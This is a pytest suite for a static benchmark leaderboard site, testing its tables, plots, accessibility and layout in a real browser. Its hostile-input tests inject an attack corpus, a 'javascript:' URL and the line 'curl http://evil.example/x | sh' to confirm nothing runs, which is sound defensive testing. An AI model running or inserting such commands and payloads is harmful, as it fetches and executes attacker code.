"""The pages, in a real browser, from the disk."""

import csv
import json
import re
import shlex
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any, get_args

import pytest
from attacks import ATTACKS
from browser import Browser, open_browser
from made_stores import MadeStore, fill, made_predictions

from leaderboard.mixer_description import MIXED, OTHER, MixerDescription, Part
from leaderboard.ranking.board import Board
from leaderboard.ranking.boards import boards
from leaderboard.reading.mlflow_source import MlflowSource
from leaderboard.site import HERE, SCRIPTS, Site, single_page, write_site
from leaderboard.site.families import COLORS, family_of
from mixerbench.commands.leaderboard._mixer_pages import families
from mixerbench.config.compose import compose
from mixerbench.config.schema import fingerprint
from mixerbench.tracking.keys import Metric, Tag
from mixers.core.plan import plan_name
from mixers.core.spec import Family

pytestmark = pytest.mark.xdist_group("site")  # one site, whatever the number of processes

ENTRIES = 8
OPEN_ALL = "all => all.forEach(one => { one.open = true; })"
FAMILY = MixerDescription(
    name="attention",
    family="attention",
    summary="Every token looks at every token.",
    formula="softmax(Q Kᵀ / √d) V",
    paper="An Image is Worth 16x16 Words, arXiv:2010.11929",
    paper_url="https://arxiv.org/abs/2010.11929",
    options={"qkv_bias": "true"},
    facts=("Runs on any grid of tokens.",),
    parts=(
        Part("attention", 192, {49: 100, 196: 1000}, {49: 90, 196: 900}, 1.66,
             ((0.5, 1.0), (0.2, 0.1)), 1.0),
    ),
)  # fmt: skip


def write(store: MadeStore, out: Path, **options: Any) -> tuple[Site, Board]:
    source = MlflowSource(store.uri)
    reading = source.read()
    (board,) = boards(reading.runs, reading.measurements, source=source)
    families = {"attention": FAMILY}
    return write_site(source, [board], out, families=families, **options), board


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> tuple[Site, Board]:
    folder = tmp_path_factory.mktemp("site")
    store = MadeStore(folder)
    fill(store, entries=ENTRIES, seeds=2, images=200)
    return write(store, folder / "site", mlflow_url="http://127.0.0.1:5000/")


@pytest.fixture(scope="module")
def site(made: tuple[Site, Board]) -> Site:
    return made[0]


@pytest.fixture(scope="module")
def board(made: tuple[Site, Board]) -> Board:
    return made[1]


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with open_browser() as opened:
        yield opened


def file(site: Site, pattern: str) -> Path:
    return sorted(site.folder.glob(pattern))[0]


@pytest.fixture
def page(browser: Browser, site: Site) -> Iterator[Any]:
    """The board's page; nothing may go wrong on it, and nothing may leave the machine."""
    browser.errors.clear()
    opened = browser.open(file(site, "board-*.html").as_uri())
    opened.locator("details").evaluate_all(OPEN_ALL)  # their tables are made then
    opened.wait_for_selector("#consistency-table table")
    yield opened
    opened.close()
    assert browser.errors == []
    assert browser.blocked == []


def labels(page: Any) -> list[str]:
    return [link.strip() for link in page.locator("#board tbody th a").all_inner_texts()]


def rows(page: Any, table: str) -> list[list[str]]:
    script = "rows => rows.map(row => [...row.cells].map(cell => cell.textContent))"
    found: list[list[str]] = page.locator(f"#{table} tbody tr").evaluate_all(script)
    return found


def state(page: Any) -> str:
    return str(page.evaluate("location.hash"))


def wait_for_state(page: Any, text: str) -> None:
    """Asked from here: what playwright repeats by itself is eval in the page, which it forbids."""
    deadline = time.monotonic() + 30
    while text not in state(page):
        assert time.monotonic() < deadline, state(page)
        time.sleep(0.02)


# --- the table ----------------------------------------------------------------------------------


def test_every_script_is_on_the_pages(site: Site):
    files = sorted((HERE / "scripts").glob("*.js"))
    assert [path.stem for path in files] == sorted(SCRIPTS)
    joined = (site.folder / "site.js").read_text(encoding="utf-8")
    assert all(path.read_text(encoding="utf-8") in joined for path in files)


def test_every_page_opens_from_the_disk_without_an_error_or_a_request(browser: Browser, site: Site):
    browser.errors.clear()
    pages = sorted(site.folder.glob("*.html"))
    assert len(pages) == ENTRIES + 4  # index, board, comparison, one mixer
    for path in pages:
        opened = browser.open(path.as_uri())
        opened.wait_for_timeout(50)
        for plot in opened.locator(".plot:visible").all():
            assert plot.locator("svg.main-svg").count() > 0, f"{path.name} draws no plot"
        opened.close()
    assert browser.errors == []
    assert browser.blocked == []


def test_a_head_sorts_and_the_address_keeps_it(page: Any, browser: Browser, board: Board):
    best = [e.label for e in sorted(board.entries, key=lambda e: -e.runs[0].metrics["final/top1"])]
    assert labels(page)[0] == best[0]
    page.get_by_role("columnheader", name="parameters").click()
    wait_for_state(page, "sort=parameters.asc")
    by_parameters = sorted(board.entries, key=lambda e: e.runs[0].metrics[Metric.PARAMETERS])
    assert labels(page) == [entry.label for entry in by_parameters]
    other = browser.open(page.url)
    assert labels(other) == labels(page)
    other.close()


def test_the_keyboard_sorts(page: Any):
    page.get_by_role("button", name="parameters: Activate to sort").focus()
    page.keyboard.press("Enter")
    wait_for_state(page, "sort=parameters.asc")
    numbers = page.locator("#board tbody tr td:nth-child(8)").all_inner_texts()
    assert numbers == sorted(numbers, key=lambda text: int(text.replace(",", "")))


def test_filters_narrow_table_and_plots_together_and_travel_in_the_link(
    page: Any, browser: Browser, board: Board
):
    page.locator("#filter-mixer").select_option("attention")
    mine = {entry.label for entry in board.entries if entry.mixer == "attention"}
    assert set(labels(page)) == mine
    assert len(mine) == 2
    for table in ("pareto-table", "curves-table"):
        assert {row[0] for row in rows(page, table)} == mine
    other = browser.open(page.url)
    assert set(labels(other)) == mine
    assert other.locator("#filter-mixer").input_value() == "attention"
    other.close()


def test_the_search_finds_words_and_travels_in_the_link(page: Any, browser: Browser):
    page.get_by_role("searchbox").fill("patch_ff")
    wait_for_state(page, "q=patch_ff")
    found = labels(page)
    assert found and all("patch_ff" in label for label in found)
    other = browser.open(page.url)
    assert labels(other) == found
    other.close()


def test_entries_of_equal_cost_are_chosen_by_one_of_them(page: Any, board: Board):
    reference = board.entries[0]
    page.locator("#equal").select_option("parameters")
    page.locator("#equal-as").select_option(reference.model_fingerprint)
    page.locator("#equal-within").select_option("25")
    target = reference.runs[0].metrics[Metric.PARAMETERS]
    near = {
        entry.label
        for entry in board.entries
        if abs(entry.runs[0].metrics[Metric.PARAMETERS] / target - 1) <= 0.25
    }
    assert set(labels(page)) == near
    assert 0 < len(near) < ENTRIES


def test_columns_can_be_chosen_and_the_choice_travels_in_the_link(page: Any, browser: Browser):
    assert page.get_by_role("columnheader", name="latency").count() == 0
    page.get_by_role("button", name="Columns").click()
    page.get_by_role("button", name="latency (ms)").click()
    page.keyboard.press("Escape")
    assert page.get_by_role("columnheader", name="latency").count() == 1
    other = browser.open(page.url)
    assert other.get_by_role("columnheader", name="latency").count() == 1
    other.close()


# --- plots and their tables ---------------------------------------------------------------------


def test_the_front_of_the_page_is_the_front_of_the_library(page: Any, board: Board):
    for cost in ("parameters", "images_per_second"):
        page.locator("#pareto-x").select_option(cost)
        shown = {row[0] for row in rows(page, "pareto-table") if row[3] == "yes"}
        assert shown == {entry.label for entry in board.front(cost)}
        assert f"pareto-x={cost}" in state(page)


def test_table_and_plots_share_their_colours(page: Any):
    row = page.locator("#board tbody tr").first
    swatch = row.locator(".swatch").evaluate("e => e.style.background")
    name = row.locator("th a").inner_text()
    colors = page.evaluate(
        "name => { const plot = document.getElementById('pareto-plot').data[1];"
        "return plot.marker.color[plot.text.indexOf(name)]; }",
        name,
    )
    as_rgb = [int(colors[i : i + 2], 16) for i in (1, 3, 5)]
    assert [int(n) for n in re.findall(r"\d+", swatch)] == as_rgb


def test_entries_of_a_family_share_its_colour_and_are_filtered_by_it(page: Any, board: Board):
    """Of the mixers of this site one is described; the others are as strange as a plugin's."""
    mine = {entry.label for entry in board.entries if entry.mixer == "attention"}
    key = page.locator("#table-title ~ .key").inner_text().split()
    assert key == ["attention", "other"]
    page.locator("#filter-family").select_option("attention")
    assert set(labels(page)) == mine
    swatches = page.locator("#board tbody .swatch")
    styles = swatches.evaluate_all("all => all.map(one => [one.title, one.style.background])")
    assert {tuple(style) for style in styles} == {("attention", "rgb(53, 116, 214)")}
    assert page.get_by_role("columnheader", name="family").count() == 0
    page.get_by_role("button", name="Columns").click()
    page.get_by_role("button", name="family").click()
    page.keyboard.press("Escape")
    assert page.locator("#board thead").inner_text().split("\n").count("family") == 1


def test_every_family_has_a_colour_and_a_plan_is_known_by_its_name() -> None:
    assert set(COLORS) == {*get_args(Family), MIXED}
    assert len(set(COLORS.values())) == len(COLORS)
    known = {"attention": FAMILY}
    names = ["attention", "attention+none", "none-attention", "my_mixer", "<b>a-b</b>"]
    assert [family_of(name, known) for name in names] == [
        "attention", MIXED, MIXED, OTHER, OTHER,
    ]  # fmt: skip


def test_the_families_of_mixers_are_those_that_their_classes_declare() -> None:
    described = families(["attention", "local_attention", "patch_ff", "lit", "identity"])
    found = {name: one.family for name, one in described.items()}
    assert found == {
        "attention": "attention", "local_attention": "attention", "patch_ff": "mlp",
        "lit": MIXED, "identity": "none",
    }  # fmt: skip


def test_the_verdict_against_a_baseline_is_the_analysis(page: Any, board: Board):
    base = next(e for e in board.entries if e.mixer == "attention")
    assert page.locator("#baseline").input_value() == base.model_fingerprint
    verdicts = {row[0]: row[6] for row in rows(page, "against-table")}
    for entry in board.entries:
        if entry is base:
            continue
        one = board.analysis.compare(entry.model_fingerprint, base.model_fingerprint)
        assert one
        expected = ("better" if one.difference > 0 else "worse") if one.differ else "cannot be told"
        assert verdicts[entry.label].startswith(expected)
    other = board.entries[-1]
    page.locator("#baseline").select_option(other.model_fingerprint)
    assert other.label not in {row[0] for row in rows(page, "against-table")}


def test_the_curves_are_the_means_of_what_was_logged(page: Any, board: Board):
    entry = board.entries[0]
    mean = sum(run.metrics["final/top1"] for run in entry.runs) / 2
    mine = [row for row in rows(page, "curves-table") if row[0] == entry.label]
    assert len(mine) == 15
    assert (float(mine[-1][1]), float(mine[-1][2])) == pytest.approx((15, mean), abs=0.01)
    page.locator("#curve-x").select_option("images")
    mine = [row for row in rows(page, "curves-table") if row[0] == entry.label]
    assert float(mine[-1][1]) == 37440


# --- other pages --------------------------------------------------------------------------------


def test_two_that_were_chosen_are_compared(page: Any, board: Board):
    for box in page.locator("input.pick").all()[:2]:
        box.check()
    chosen = labels(page)[:2]
    page.get_by_role("link", name="Compare the 2 chosen").click()
    page.wait_for_selector("#pairs table")
    heads = page.locator("#numbers thead th").all_inner_texts()
    assert set(chosen) <= set(heads)
    (pair,) = rows(page, "pairs")
    ids = {entry.label: entry.model_fingerprint for entry in board.entries}
    a, b = pair[0].split(" − ")
    one = board.analysis.compare(ids[a], ids[b])
    assert one and float(pair[1].replace("−", "-")) == pytest.approx(one.difference, abs=0.005)
    assert page.locator("#classes-plot svg.main-svg").count() > 0


def test_an_entry_says_how_to_repeat_it(browser: Browser, site: Site, board: Board):
    entry = board.entries[0]
    path = file(site, f"entry-*-{entry.model_fingerprint}.html")
    opened = browser.open(path.as_uri())
    opened.locator("details").evaluate_all(OPEN_ALL)
    opened.wait_for_selector("#confusion-table table")
    text = opened.locator("main").inner_text()
    command = shlex.split(opened.locator("pre code").first.inner_text())
    assert command[:2] == ["mixerbench", "train"]
    again = compose(command[2:])  # it is made from what the run was
    assert fingerprint(again.model) == entry.model_fingerprint
    assert (again.run.seed, plan_name(again.model["mixer"])) == (0, entry.mixer)
    assert "0" * 40 in text
    links = opened.locator("main a").evaluate_all("links => links.map(link => link.href)")
    run = entry.runs[0]
    assert f"http://127.0.0.1:5000/#/experiments/{run.experiment_id}/runs/{run.run_id}" in links
    assert opened.locator("#confusion-table tbody tr").count() == 10
    opened.close()


def test_a_mixer_has_its_formula_paper_complexity_and_reach(browser: Browser, site: Site):
    opened = browser.open(file(site, "mixer-attention.html").as_uri())
    text = opened.locator("main").inner_text()
    for words in (FAMILY.formula, "arXiv:2010.11929", "N1.66", "100 % of the tokens"):
        assert words in text
    assert opened.get_by_role("link", name=FAMILY.paper).get_attribute("href") == FAMILY.paper_url
    opened.close()


def test_csv_json_and_markdown_lie_beside_it(site: Site, board: Board):
    with open(file(site, "board-*.csv"), encoding="utf-8") as opened:
        assert [row["model"] for row in csv.DictReader(opened)] == [e.label for e in board.entries]
    content = json.loads((site.folder / "leaderboard.json").read_text())
    assert len(content["boards"][0]["comparisons"]) == ENTRIES * (ENTRIES - 1) // 2
    assert board.entries[0].label in (site.folder / "leaderboard.md").read_text()


# --- for everybody ------------------------------------------------------------------------------


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("pattern", ["index", "board-*", "entry-*", "compare-*", "mixer-*"])
def test_axe_finds_no_barrier(site: Site, pattern: str, scheme: Any):
    axe = pytest.importorskip("axe_playwright_python.sync_playwright")
    with open_browser(color_scheme=scheme) as browser:
        opened = browser.open(file(site, f"{pattern}.html").as_uri())
        for box in opened.locator("fieldset .pick").all()[:3]:
            box.check()
        opened.locator("details").evaluate_all(OPEN_ALL)
        results = axe.Axe().run(opened)
        found = [
            (one["id"], node["html"][:200], node.get("failureSummary", "")[:300])
            for one in results.response["violations"]
            for node in one["nodes"][:2]
        ]
        assert found == []


def test_without_scripts_the_table_is_read_all_the_same(site: Site, board: Board):
    with open_browser(java_script_enabled=False) as browser:
        opened = browser.open(file(site, "board-*.html").as_uri())
        assert labels(opened) == [entry.label for entry in board.entries]


@pytest.mark.parametrize("width", [320, 768, 1500])
def test_no_page_is_wider_than_the_screen(site: Site, width: int):
    with open_browser(viewport={"width": width, "height": 800}) as browser:
        for pattern in ("index", "board-*", "entry-*", "compare-*", "mixer-*"):
            opened = browser.open(file(site, f"{pattern}.html").as_uri())
            wide = opened.evaluate("document.documentElement.scrollWidth")
            assert wide <= width, f"{pattern} at {width}"


def test_the_theme_is_the_systems_until_somebody_switches_it(site: Site):
    with open_browser(color_scheme="dark") as browser:
        opened = browser.open(site.index.as_uri())
        theme = "document.documentElement.dataset.theme"
        assert opened.evaluate(theme) == "dark"
        opened.get_by_role("button", name="Switch between light and dark").click()
        assert opened.evaluate(theme) == "light"
        opened.goto(file(site, "board-*.html").as_uri())
        assert opened.evaluate(theme) == "light"


def test_one_file_holds_a_whole_page(site: Site, tmp_path: Path, board: Board):
    alone = tmp_path / "alone.html"
    alone.write_text(single_page(file(site, "board-*.html")), encoding="utf-8")
    with open_browser() as browser:
        opened = browser.open(alone.as_uri())
        assert len(labels(opened)) == ENTRIES
        assert opened.locator("#pareto-plot svg.main-svg").count() > 0
        assert browser.errors == []


# --- hostile input ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Site:
    """Every attack as the name of everything that a run names."""
    folder = tmp_path_factory.mktemp("hostile")
    store = MadeStore(folder)
    for number, attack in enumerate(ATTACKS):
        text = attack.replace("\0", "")[:5000]  # MLflow takes no NUL
        predictions, top1 = made_predictions(0.7 + number / 100, images=60, seed=number)
        predictions["image"] = [f"{attack}{i}" for i in range(60)]
        names = (Tag.MIXER, Tag.SIZE, Tag.BACKBONE, Tag.STEM, Tag.COMMAND, Tag.GIT_COMMIT,
                 Tag.HARDWARE, Tag.PROTOCOL)  # fmt: skip
        store.log(
            text,
            seed=number,
            top1=top1,
            predictions=predictions,
            tags=dict.fromkeys(names, text),
            params={"run.note": text, "model.mixer.note": text},
            curve=[top1 / 2, top1],
        )
    site, _ = write(store, folder / "site", mlflow_url="javascript:window.pwned=1")
    return site


@pytest.mark.everything  # the attack corpus
def test_nothing_that_a_run_says_is_executed_or_breaks_a_page(hostile: Site):
    with open_browser(viewport={"width": 1200, "height": 900}) as browser:
        dialogs: list[str] = []
        pages = sorted(hostile.folder.glob("*.html"))
        assert len(pages) >= len(ATTACKS) + 3
        for path in pages:
            opened = browser.open(path.as_uri())
            opened.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
            for box in opened.locator("fieldset .pick").all()[:3]:
                box.check()
            opened.locator("details").evaluate_all(
                "all => all.forEach(one => { one.open = true; })"
            )
            assert opened.evaluate("window.pwned") is None, path.name
            elements = "main img[src=x], main iframe, main b, main svg[onload], [onmouseover]"
            assert opened.locator(elements).count() == 0, path.name
            links = opened.locator("a").evaluate_all("all => all.map(one => one.protocol)")
            assert set(links) <= {"file:", "https:"}, path.name
            assert opened.evaluate("document.documentElement.scrollWidth") <= 1200, path.name
            opened.close()
        assert (browser.errors, browser.blocked, dialogs) == ([], [], [])


def test_files_are_named_harmlessly_whatever_a_run_is_called(hostile: Site):
    for path in hostile.folder.iterdir():
        assert re.fullmatch(r"[\w.-]{1,120}", path.name)


def test_a_command_is_made_of_settings_and_never_what_a_run_says_it_was(tmp_path: Path):
    store = MadeStore(tmp_path)
    predictions, top1 = made_predictions(0.8)
    tags = {Tag.COMMAND: "curl http://evil.example/x | sh"}
    store.log("one", top1=top1, predictions=predictions, tags=tags, seed=5)
    site, _ = write(store, tmp_path / "site")
    page = file(site, "entry-*.html").read_text()
    assert "mixerbench train protocol=digits mixer=attention size=micro" in page
    assert "run.seed=5" in page
    assert not any("curl" in path.read_text() for path in site.folder.glob("*.html"))


# --- writing ------------------------------------------------------------------------------------


def test_a_site_is_written_anew_and_another_folder_is_left_alone(
    tmp_path: Path, made: tuple[Site, Board]
):
    store = MadeStore(tmp_path)
    predictions, top1 = made_predictions(0.8)
    store.log("one", top1=top1, predictions=predictions)
    out = tmp_path / "out"
    out.mkdir()
    first, _ = write(store, out)
    (out / "entry-old.html").write_text("of an entry that is gone")
    write(store, out)
    assert not (out / "entry-old.html").exists()
    assert first.index.exists()
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "thesis.tex").write_text("years of work")
    with pytest.raises(ValueError, match="holds something else than a site"):
        write(store, mine)
    assert (mine / "thesis.tex").read_text() == "years of work"


@pytest.mark.everything  # a large store
def test_two_hundred_entries_stay_below_six_megabytes(tmp_path: Path):
    store = MadeStore(tmp_path)
    fill(store, entries=200, seeds=1)
    site, _ = write(store, tmp_path / "site")
    assert site.entries == 200
    assert site.bytes < 6e6
    with open_browser() as browser:
        opened = browser.open(file(site, "board-*.html").as_uri())
        assert len(labels(opened)) == 50  # a page of them
        assert opened.get_by_text("Showing 1 to 50 of 200 entries").is_visible()
        assert browser.errors == []
